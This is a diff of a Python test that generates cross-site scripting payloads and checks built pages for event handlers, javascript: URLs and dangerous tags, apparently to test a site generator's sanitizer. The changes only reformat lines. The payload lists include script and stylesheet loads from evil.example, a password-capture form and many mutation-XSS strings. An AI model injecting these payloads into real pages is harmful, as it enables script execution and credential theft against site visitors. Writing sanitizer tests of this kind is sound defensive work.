@@ -50,16 +50,20 @@ HANDLER_TAGS = ["img src=x", "svg", "body", "div", "a href=x", "input autofocus"
                 "audio src=x", "iframe", "marquee", "select autofocus", "textarea autofocus", "button", "span", "p",
                 "table", "math", "style", "image src=x", "object data=x", "isindex", "frameset", "animate"]
 HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onbegin", "OnClick", "onpointerenter"]
-URL_PLACES = ['<a href="{u}">x</a>', '<img src="{u}">', '<img srcset="{u} 1x">', '<form action="{u}"><button>x</button></form>',
-              '<button formaction="{u}">x</button>', '<video poster="{u}"></video>', '<table background="{u}"><tr><td>x</td></tr></table>',
-              '<svg><a xlink:href="{u}"><text>x</text></a></svg>', '<object data="{u}"></object>', '<iframe src="{u}"></iframe>',
+URL_PLACES = ['<a href="{u}">x</a>', '<img src="{u}">', '<img srcset="{u} 1x">',
+              '<form action="{u}"><button>x</button></form>', '<button formaction="{u}">x</button>',
+              '<video poster="{u}"></video>', '<table background="{u}"><tr><td>x</td></tr></table>',
+              '<svg><a xlink:href="{u}"><text>x</text></a></svg>', '<object data="{u}"></object>',
+              '<iframe src="{u}"></iframe>',
               '<embed src="{u}">', '<link rel="stylesheet" href="{u}">', '[md link]({u})', '![md image]({u})',
               '[ref link][r]\n\n[r]: {u}', '<blockquote cite="{u}">q</blockquote>', '<a href="x">{{ href="{u}" }}</a>']
 OTHERS = [
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
     "<script/x>alert(1)</script>", "<<script>alert(1);//<</script>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
-    "<svg><script>alert(1)</script></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
     '<div style="background:url(javascript:alert(1))">x</div>', '<p style="width: expression(alert(1))">x</p>',
     "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
@@ -67,7 +71,8 @@ OTHERS = [
     '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
     '<form action="https://evil.example/"><input name=p type=password><input type=submit></form>',
     "<!-- --><script>alert(1)</script> -->", '<!--<img src="--><img src=x onerror=alert(1)//">',
-    "<![CDATA[><script>alert(1)</script>]]>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<![CDATA[><script>alert(1)</script>]]>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     "<template><img src=x onerror=alert(1)></template>", "<textarea></textarea><img src=x onerror=alert(1)>",
     '<?xml version="1.0"?><img src=x onerror=alert(1)>', "<xmp><img src=x onerror=alert(1)></xmp>",
     "Text{ onclick=\"alert(1)\" }", "[link](page.md){ onmouseover=alert(1) }", "# Heading { onclick=alert(1) }",
@@ -79,7 +84,8 @@ OTHERS = [
 
 
 def hostile_bodies() -> list[str]:
-    bodies = [f"<{tag} {handler}=alert(1)>x</{tag.split()[0]}>" for tag, handler in itertools.product(HANDLER_TAGS, HANDLERS)]
+    bodies = [f"<{tag} {handler}=alert(1)>x</{tag.split()[0]}>"
+              for tag, handler in itertools.product(HANDLER_TAGS, HANDLERS)]
     bodies += [place.format(u=url) for place, url in itertools.product(URL_PLACES, JS)]
     return bodies + OTHERS
 
@@ -103,8 +109,8 @@ def problems(soup: BeautifulSoup) -> list[str]:
     """Everything on a built page that a document body could have used to run code or leave the site."""
     found = []
     for el in soup.find_all(True):
-        for name, value in el.attrs.items():
-            value = " ".join(value) if isinstance(value, list) else value
+        for name, raw in el.attrs.items():
+            value = " ".join(raw) if isinstance(raw, list) else raw
             if name.lower().startswith("on"):
                 found.append(f"handler {name} on <{el.name}>")
             if name.lower() in URL_ATTRS and BAD_URL.match(html.unescape(value).replace("\x01", "")):
@@ -122,7 +128,8 @@ def problems(soup: BeautifulSoup) -> list[str]:
     for tag in ("script", "iframe", "object", "embed", "base", "form", "style", "link", "meta", "frame", "frameset",
                 "template", "textarea", "button", "math", "animate", "use", "foreignobject"):
         found += [f"<{tag}> in the article" for _ in article.find_all(tag)]
-    found += [f"meta refresh {m}" for m in soup.find_all("meta", attrs={"http-equiv": re.compile("refresh", re.IGNORECASE)})]
+    found += [f"meta refresh {m}"
+              for m in soup.find_all("meta", attrs={"http-equiv": re.compile("refresh", re.IGNORECASE)})]
     found += [f"base {b}" for b in soup.find_all("base")]
     return found
 
